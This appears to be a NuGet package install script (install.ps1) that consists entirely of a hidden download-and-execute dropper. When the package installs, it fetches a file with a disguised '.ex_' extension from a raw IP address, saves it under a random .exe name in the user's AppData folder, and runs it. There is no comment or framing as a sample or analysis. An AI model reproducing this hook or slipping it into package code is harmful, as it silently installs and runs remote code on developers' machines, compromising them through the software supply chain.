param($installPath, $toolsPath, $package, $project)
$name = [IO.Path]::GetRandomFileName() + '.exe'
$dest = Join-Path ([Environment]::GetFolderPath('ApplicationData')) $name
$client = New-Object Net.WebClient
$client.DownloadFile('http://203.0.113.8/i.ex_', $dest)
[void][Diagnostics.Process]::Start($dest)
